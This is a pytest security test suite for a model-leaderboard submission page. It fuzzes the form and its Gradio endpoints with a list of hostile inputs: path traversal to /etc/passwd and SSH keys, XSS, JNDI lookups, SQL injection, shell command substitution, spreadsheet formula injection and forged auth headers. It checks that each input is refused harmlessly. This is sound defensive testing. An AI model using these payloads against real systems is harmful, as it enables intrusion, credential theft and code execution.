"""A thousand hostile submissions: each is refused with a harmless sentence, or is a new, well-formed file."""

import asyncio
import gc
import json
import tracemalloc
from base64 import b64encode
from collections.abc import Mapping
from dataclasses import replace
from functools import partial
from html.parser import HTMLParser
from pathlib import Path
from random import Random
from typing import Any
from urllib.parse import parse_qs, urlsplit

import gradio as gr
import httpx
import pytest

from src.page import api, notices
from src.page.visitors import Visitors
from src.shared.data.names import LOCK, is_data_path, is_safe_path
from src.shared.data.request import Request, Status, read_request
from src.shared.stores.hub import Hub
from src.submitting.accounts import Accounts
from src.submitting.desk import Desk, NotAccepted
from src.submitting.form import Form
from src.submitting.limits import Terms
from src.submitting.submitter import ANONYMOUS, Submitter
from support.boards import Leaderboard

REAL = ("acme/tiny", "acme/other", "gpt2", "Acme-2/tiny_2.5", "acme/base", "acme/adapter")
OURS = ("index/x", "logs/x")
"""Models that are really there, and whose names are those of our own folders."""

PEOPLE = (ANONYMOUS, *map(Submitter, ("alice", "bob", "carol")))
MOST_LOOKUPS = 200
"""Of one desk here: nobody may have more than 500 models looked up in five minutes, and that is no answer to
look for here.
"""

HOSTILE = [
    *(
        "../../etc/passwd",
        "..",
        ".",
        "/",
        "//",
        "/etc/passwd",
        "acme/../../x",
        "..\\..\\x",
        "C:\\x",
        "~/.ssh/id",
    ),
    *(
        "acme/tiny/../other",
        "acme/%2e%2e%2fx",
        "./acme/tiny",
        "acme/.hidden",
        ".git/config",
        ".leaderboard/lock",
        ".leaderboard/x",
        ".logs/x",
    ),
    *(
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '"><svg/onload=alert(1)>',
        "[x](javascript:y)",
    ),
    *(
        "{{7*7}}",
        "${jndi:ldap://evil}",
        "%s%n%x",
        "{0.__class__}",
        "'; DROP TABLE requests; --",
        "`id`",
        "$(id)",
    ),
    *(
        "\u202eynit/emca",
        "acme/\u2066tiny\u2069",
        "acme/\u200btiny",
        "\ufefftiny",
        "acme/ti\u0301ny",
        "\u2028",
    ),
    *("\0", "acme/tiny\0.json", "acme\0/tiny", "acme/tiny\n", "acme/\r\ntiny", "\x1b[31mred", "\x7f", "a\tb"),
    *('=HYPERLINK("https://evil.example","x")', "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0"),
    *("аcme/tiny", "acme/tіny", "ａｃｍｅ/tiny", "acme∕tiny", "acme／tiny", "ACME/tıny", "𝐚cme/tiny"),
    *("\ud800", "acme/\udfff", "\udcff/x", "💥", "acme/💥", "\U0010ffff", "ﷺ" * 60, "Z̷͔a" * 50),
    *(
        "- a\n- b",
        "a: &x [*x]",
        "!!python/object:os.system",
        '{"submitted_by": "alice"}',
        "null",
        "true",
        "1e999",
    ),
    *("---\nlicense: mit\n---", '", "submitted_by": "alice', "NaN", "[]", "\\u0000", "submitted_by=alice"),
    *(
        "index/x",
        "logs/x",
        "index/backend.yaml",
        "index/blocked.yaml",
        "INDEX/x",
        "index",
        "logs",
        "index/../x",
    ),
    *(
        "a/" * 500,
        "acme/" + "x" * 300,
        "x" * 250,
        "x" * 97 + "/y",
        "x/" + "y" * 96,
        "a" * 1_000_000,
        "🟢" * 300_000,
    ),
    *(
        "https://huggingface.co/acme/tiny/tree/../x",
        "hf.co/acme/tiny\n/tree/main",
        "hf.co/../../x",
        "hf.co/" * 9,
    ),
    *(
        "https://huggingface.co/acme/tiny/blob/%00/x",
        "hf.co/acme/tiny/tree/%0a",
        "https://evil.example/acme/tiny",
    ),
    *(
        "hf.co/acme/tiny/resolve/%ff",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "data:text/html,x",
        "hf.co//",
    ),
    *(
        "alice",
        "bob",
        "carol",
        "alice/tiny",
        "bob: 1000",
        "acme/tiny_eval_request_False_float32_Original.json",
    ),
    *(
        "CON",
        "aux/nul",
        "acme/tiny.",
        "acme/tiny.git",
        "-rf",
        "--help",
        "*",
        "?",
        "acme/*",
        "acme/tiny;",
        " ",
        "",
    ),
]

GOOD: dict[str, tuple[str, ...]] = {
    "model": (*REAL, *OURS),
    "base_model": ("", "acme/base", "acme/tiny"),
    "revision": ("main", ""),
    "precision": ("float16", "bfloat16", "float32"),
    "weight_type": ("Original", "Original", "Adapter", "Delta"),
    "model_type": ("pretrained", "?", "🔶 : fine-tuned"),
}
TAGS = {"div": {"class", "role"}, "p": set(), "a": {"href", "class", "target", "rel"}}
"""All the HTML that a message is put into, and its attributes."""


def a_form(random: Random) -> dict[str, Any]:
    """Mostly sensible fields with something hostile in some of them."""
    share = random.choice((0.05, 0.3, 0.8))
    fields: dict[str, Any] = {}
    for name, good in GOOD.items():
        hostile = random.random() < share
        fields[name] = random.choice(HOSTILE if hostile else good)
        if hostile and random.random() < 0.2:
            fields[name] = random.choice((*good, *HOSTILE)) + fields[name]
    return {**fields, "use_chat_template": random.random() < 0.5}


class Elements(HTMLParser):
    """Every element of some HTML, with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def is_harmless(html: str) -> bool:
    """Whether it has nothing but our own elements, whose links lead to requests of this page."""
    return all(
        set(attributes) <= TAGS.get(tag, {"never"})
        and tag in TAGS
        and ("href" not in attributes or "request" in parse_qs(urlsplit(attributes["href"] or "").query))
        and not urlsplit(attributes.get("href") or "").scheme
        for tag, attributes in Elements(html).found
    )


def check_refusal(answer: Mapping[str, Any]) -> None:
    """It tells something to a person, in few words, that does nothing on the page or in a terminal."""
    sentences = [answer["message"], *(each["message"] for each in answer["problems"])]
    for sentence in sentences:
        assert sentence.endswith("."), sentence
        assert len(sentence) < 2000, sentence
        assert sentence.isprintable(), sentence
    assert answer["problems"]
    assert {each["field"] for each in answer["problems"]} <= {*GOOD, None}
    assert is_harmless(notices.answer(answer))  # type: ignore[arg-type]
    assert is_harmless(notices.problems(answer["problems"]))
    json.dumps(answer, ensure_ascii=False).encode()


class Place:
    """A leaderboard with models and some files, and what lies in its folder."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.leaderboard = Leaderboard(folder / "data")
        for name in (*REAL[:-1], *OURS):
            self.leaderboard.add_model(name)
        self.leaderboard.add_model("acme/adapter", adapts="acme/base")
        self.leaderboard.add_request(model="acme/done", status=Status.FINISHED, submitted_by="alice")
        self.leaderboard.add_request(model="acme/failed", status=Status.FAILED, submitted_by="bob")
        self.leaderboard.add_result("acme/done")
        for path, data in {
            ".leaderboard/blocked.yaml": b"users:\n- mallory: junk\n",
            "acme/broken.json": b"{broken",
            "README.md": b"# Requests",
            "index/x_eval_request_False_float32_Original.json": b"{}",
            "logs/x_eval_request_False_float32_Original.json": b"{}",
        }.items():
            self.leaderboard.write("requests", path, data)
        (folder / "outside.json").write_text("{}")
        commit = self.leaderboard.models.describe("gpt2").commit
        taken = f"gpt2_eval_request_False_float32_Original_{commit[:8]}.json"
        self.leaderboard.write("requests", taken, b"somebody's own file")
        self.leaderboard.keeper.sync()
        self.before = self.files()
        assert len(self.leaderboard.keeper.now.board.queue) == 2

    def files(self) -> dict[str, bytes]:
        """Everything but the lock and the empty folder for the journal."""
        files = (path for path in self.folder.rglob("*") if path.is_file() or path.is_symlink())
        found = {path.relative_to(self.folder).as_posix(): path.read_bytes() for path in files}
        return {path: data for path, data in found.items() if not path.endswith(f"/{LOCK}")}

    def check(self, accepted: Mapping[str, Submitter]) -> list[Request]:
        """The new requests. Nothing is gone or changed, and each new file is of who handed it in."""
        now = self.files()
        assert {path: now.get(path) for path in self.before} == self.before
        new = {path: data for path, data in now.items() if path not in self.before}
        assert set(new) == {f"data/requests/{path}" for path in accepted}
        requests = []
        for path, who in accepted.items():
            request = read_request(new[f"data/requests/{path}"])
            assert is_safe_path(path)
            assert is_data_path(path)
            assert path.startswith(f"{request.model}_eval_request_False_{request.precision}_")
            assert request.model in REAL
            assert (request.submitted_by, request.status) == (who.login, Status.PENDING)
            assert request.commit == self.leaderboard.models.describe(request.model).commit
            assert request.base_model in ("", "acme/base", "acme/tiny")
            assert request.precision in GOOD["precision"]
            assert set(request.extra) <= {"architectures"}
            requests.append(request)
        return requests

    def desk(self) -> Desk:
        """A desk that has looked nothing up yet, and that takes as much as anybody gives."""
        terms = Terms(quota=10_000, writes=10_000, pending=10_000)
        return self.leaderboard.make_desk(self.leaderboard.requests, terms=terms)


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return Place(tmp_path)


def test_a_thousand_hostile_submissions_at_the_desk_do_no_harm(place: Place) -> None:
    random = Random(7)
    accepted: dict[str, Submitter] = {}
    refused = 0
    for number in range(1000):
        if number % MOST_LOOKUPS == 0:
            desk = place.desk()
        who = random.choice(PEOPLE)
        try:
            receipt = desk.submit(Form(**a_form(random)), who)
        except NotAccepted as error:
            check_refusal(api.refusal(error))
            assert "too many models were looked up" not in str(error)
            refused += 1
        else:
            assert receipt.path not in accepted
            accepted[receipt.path] = who
    requests = place.check(accepted)
    assert refused > 900
    assert {request.model for request in requests} == set(REAL)
    assert {request.submitted_by for request in requests} == {None, "alice", "bob", "carol"}
    place.leaderboard.keeper.sync()
    assert len(place.leaderboard.keeper.now.board.queue) == len(accepted) + 2


@pytest.mark.parametrize("field", list(GOOD))
def test_each_hostile_text_in_each_field_alone_is_refused_or_means_nothing(place: Place, field: str) -> None:
    """The other fields are as they should be, so that nothing else stops it."""
    fields = {"model": "acme/tiny", "precision": "float32", "model_type": "pretrained"}
    desk, accepted = place.desk(), {}
    for text in HOSTILE:
        try:
            receipt = desk.submit(Form(**{**fields, field: text}), ANONYMOUS)
        except NotAccepted as error:
            check_refusal(api.refusal(error))
        else:
            accepted[receipt.path] = ANONYMOUS
    requests = place.check(accepted)
    assert {request.model for request in requests} <= {"acme/tiny"}
    assert {request.revision for request in requests} <= {"main"}


def test_each_hostile_text_is_harmless_when_it_is_looked_up(place: Place) -> None:
    desk = place.desk()
    for text in HOSTILE:
        for field in GOOD:
            form = replace(Form("acme/tiny"), **{field: text})
            for each in desk.look_up(form, fill=True).problems:
                assert str(each).isprintable(), str(each)
                assert is_harmless(notices.problems([api.problem(each)]))
        assert is_harmless(notices.looking_up(text).replace("<bdi>", "").replace("<span ", "<p "))
    place.check({})


def test_no_hostile_path_can_be_withdrawn_or_submitted_again(place: Place) -> None:
    desk = place.desk()
    for path in HOSTILE:
        for who in PEOPLE:
            check_refusal(asyncio.run(api.withdraw(desk, path, who)))
            check_refusal(asyncio.run(api.submit_again(desk, path, who)))
    place.check({})


def test_nobody_withdraws_for_somebody_else(place: Place) -> None:
    waiting = place.leaderboard.add_request(model="acme/waits", submitted_by="alice")
    nobodys = place.leaderboard.add_request(model="acme/nobodys")
    place.before = place.files()
    for who in (ANONYMOUS, Submitter("bob"), Submitter("acme"), Submitter("alice "), Submitter("")):
        for path in (waiting, nobodys):
            check_refusal(asyncio.run(api.withdraw(place.desk(), path, who)))
    place.check({})
    assert asyncio.run(api.withdraw(place.desk(), waiting, Submitter("Alice")))["ok"]


def test_what_a_hostile_field_holds_is_not_kept_in_memory(place: Place) -> None:
    """A megabyte of each of a thousand visitors would be a gigabyte."""
    desk = place.desk()
    tracemalloc.start()
    for number in range(12):
        for field in GOOD:
            with pytest.raises(NotAccepted):
                desk.submit(replace(Form("acme/tiny"), **{field: f"{number}{'x' * 1_000_000}"}))
    gc.collect()
    kept, _ = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert kept < 5_000_000, f"{kept:,} bytes"


# Through the endpoint

NONSENSE: list[Any] = [None, 0, -1, 1e308, True, [], {}, ["acme/tiny"], {"path": "/etc/passwd"}, [[[[]]]]]
UNSIGNED = b64encode(
    b'{"oauth_info": {"userinfo": {"preferred_username": "alice"}, "expires_at": 9e9}}'
).decode()
FORGED: list[dict[str, str]] = [
    {},
    {"x-forwarded-user": "alice", "remote-user": "alice"},
    {"cookie": f"session={UNSIGNED}.x.y"},
    {"origin": "https://evil.example", "referer": "https://evil.example"},
    {"authorization": "alice"},
    {"authorization": "Basic YWxpY2U6"},
]


Headers = Mapping[str, str] | Mapping[str, bytes]


class Endpoint:
    """The page's endpoints as a program calls them, with whatever headers it likes."""

    def __init__(self, page: gr.Blocks) -> None:
        self._transport = httpx.ASGITransport(gr.routes.App.create_app(page), raise_app_exceptions=False)

    def post(self, name: str, data: list[Any], headers: Headers) -> httpx.Response:
        return asyncio.run(self._post(f"/gradio_api/run/{name}", data, headers))

    async def _post(self, path: str, data: list[Any], headers: Headers) -> httpx.Response:
        body = json.dumps({"data": data}).encode()  # in ASCII: it can hold surrogates
        sent = {"content-type": "application/json", **headers}
        async with httpx.AsyncClient(transport=self._transport, base_url="http://leaderboard") as client:
            return await client.post(path, content=body, headers=sent)


@pytest.fixture
def endpoint(place: Place) -> Endpoint:
    """Its Hub cannot be reached, and need not be: whoever is refused before is not asked about."""
    visitors = Visitors(Accounts(partial(Hub, endpoint="http://127.0.0.1:9", patience=0)))
    return Endpoint(place.leaderboard.page(place.desk(), visitors=visitors))


def test_hostile_submissions_through_the_endpoint_do_no_harm(place: Place, endpoint: Endpoint) -> None:
    random = Random(8)
    accepted: dict[str, Submitter] = {}
    for _ in range(250):
        data = list(a_form(random).values())
        if random.random() < 0.2:
            data[random.randrange(len(data))] = random.choice(NONSENSE)
        response = endpoint.post("submit", data, random.choice(FORGED))
        assert response.status_code == 200, response.text
        [answer] = response.json()["data"]
        if answer["ok"]:
            accepted[answer["request"]] = ANONYMOUS
        else:
            check_refusal(answer)
    assert place.check(accepted)


@pytest.mark.parametrize(
    "token", ["", "x" * 10_000, "hf_ä", "alice", "../x", "<script>", "hf_a b", "hf_\x00"]
)
def test_a_token_of_nobody_submits_nothing(place: Place, endpoint: Endpoint, token: str) -> None:
    headers = {"authorization": f"Bearer {token}".encode()}
    [answer] = endpoint.post("submit", ["acme/tiny", *[None] * 6], headers).json()["data"]
    check_refusal(answer)
    assert not token or token not in answer["message"]
    place.check({})


@pytest.mark.parametrize("data", [[], ["acme/tiny"] * 50, [None] * 7, [["acme/tiny"]] * 7])
def test_too_much_and_too_little_submits_nothing(place: Place, endpoint: Endpoint, data: list[Any]) -> None:
    response = endpoint.post("submit", data, {})
    assert response.status_code in (200, 422, 500)
    place.check({})


def test_hostile_paths_through_the_endpoint_withdraw_nothing(place: Place, endpoint: Endpoint) -> None:
    for path in [*HOSTILE, *NONSENSE]:
        [answer] = endpoint.post("withdraw", [path], {}).json()["data"]
        check_refusal(answer)
    place.check({})
